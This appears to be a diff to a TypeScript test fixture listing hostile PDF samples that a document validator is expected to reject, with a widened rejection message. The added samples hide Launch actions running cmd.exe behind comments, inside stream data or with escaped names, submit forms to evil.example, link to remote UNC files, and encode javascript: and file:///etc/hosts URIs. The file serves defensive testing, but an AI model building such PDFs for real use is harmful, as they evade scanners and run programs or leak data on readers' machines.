@@ -22,9 +22,37 @@ function packed(objects: string | Buffer): Buffer {
   return Buffer.concat([Buffer.from(head), stream, Buffer.from(`\nendstream endobj\n${rest}`)]);
 }
 
+/** Objects one after the other, without a table of them. */
+const objects = (...contents: string[]) =>
+  `%PDF-1.7\n${contents.map((content, index) => `${index + 1} 0 obj${content}endobj\n`).join('')}`;
+const END = 'trailer<</Size 9/Root 1 0 R>>\nstartxref\n0\n%%EOF\n';
+const CATALOG = '<</Type/Catalog/Pages 2 0 R>>';
+const PAGES = '<</Type/Pages/Kids[3 0 R]/Count 1>>';
+const pageWith = (more: string) => `<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]${more}>>`;
+
+/** A comment that looks like the beginning of a stream, to whoever looks for words. */
+const behindComment = (action: string) =>
+  objects(CATALOG, PAGES, pageWith('/Annots[4 0 R]')) +
+  `% stream\n4 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A${action}>>endobj\n% endstream\n${END}`;
+
+/**
+ * A document whose table of objects leads into a stream, to an object that whoever reads from the front takes for the
+ * stream's data.
+ */
+function hiddenInStream(): string {
+  const hidden = `4 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>endobj\n`;
+  const text =
+    objects(CATALOG, PAGES, pageWith('/Annots[4 0 R]')) +
+    `5 0 obj<</Length ${hidden.length}>>stream\n${hidden}endstream endobj\n`;
+  const at = (start: string) => `${String(text.indexOf(start)).padStart(10, '0')} 00000 n \n`;
+  const table = ['1 0 obj', '2 0 obj', '3 0 obj', '4 0 obj', '5 0 obj'].map(at).join('');
+  return `${text}xref\n0 6\n0000000000 65535 f \n${table}trailer<</Size 6/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF\n`;
+}
+
 export const DAMAGED_PDF = 'This PDF document is damaged and can not be read.';
 export const LOCKED_PDF = 'This PDF document is locked by a password. Please save it without one.';
-export const ACTIVE_PDF = 'This PDF document has scripts or other files in it. Please save it without them.';
+export const ACTIVE_PDF =
+  'This PDF document has scripts, active links or other files in it. Please save it without them.';
 
 /** Documents that do something when they are opened, or are not only documents; with what they are told. */
 export const HOSTILE_PDFS: readonly (readonly [string, () => string | Buffer, string])[] = [
@@ -34,6 +62,35 @@ export const HOSTILE_PDFS: readonly (readonly [string, () => string | Buffer, st
   ['a script behind a link', () => pdfWith('', link(SCRIPT)), ACTIVE_PDF],
   ['a script packed away', () => packed(`4 0 <</Type/Annot/A${SCRIPT}>>`), ACTIVE_PDF],
   ['a program behind a link', () => pdfWith('', link('<</S/Launch/F(cmd.exe)>>')), ACTIVE_PDF],
+  ['a program behind a comment', () => behindComment('<</S/Launch/F(cmd.exe)>>'), ACTIVE_PDF],
+  [
+    'a program whose kind stands elsewhere',
+    () => behindComment('<</S 5 0 R>>').replace('trailer', '5 0 obj/Launch endobj\ntrailer'),
+    ACTIVE_PDF,
+  ],
+  ['a program in the data of a stream', hiddenInStream, ACTIVE_PDF],
+  ['a program packed away', () => packed(`4 0 <</Type/Annot/A<</S/L#61unch/F(cmd.exe)>>>>`), ACTIVE_PDF],
+  ['a form that is sent away', () => pdfWith('', link('<</S/SubmitForm/F(https://evil.example)>>')), ACTIVE_PDF],
+  ['data that come from elsewhere', () => pdfWith('', link('<</S/ImportData/F(a.fdf)>>')), ACTIVE_PDF],
+  ['a link to another file', () => pdfWith('', link('<</S/GoToR/F(\\\\evil.example\\a.pdf)/D[0/Fit]>>')), ACTIVE_PDF],
+  ['a link into a file inside', () => pdfWith('', link('<</S/GoToE/D[0/Fit]>>')), ACTIVE_PDF],
+  ['a link that is a script', () => pdfWith('', link('<</S/URI/URI(java\\163cript:alert\\(1\\))>>')), ACTIVE_PDF],
+  [
+    'a link to a file of its reader',
+    () => pdfWith('', link('<</S/URI/URI<66696C653A2F2F2F6574632F686F737473>>>')),
+    ACTIVE_PDF,
+  ],
+  ['a form of scripts', () => pdfWith('/AcroForm<</Fields[]/XFA 9 0 R>>'), ACTIVE_PDF],
+  ['a film', () => pdfWith('', '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]'), ACTIVE_PDF],
+  [
+    'a stream that comes from elsewhere',
+    () =>
+      pdfWith('').replace(
+        'trailer',
+        '4 0 obj<</F(https://evil.example/a)/Length 0>>stream\n\nendstream endobj\ntrailer',
+      ),
+    ACTIVE_PDF,
+  ],
   [
     'another file in it',
     () => pdfWith('/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>]>>>>'),
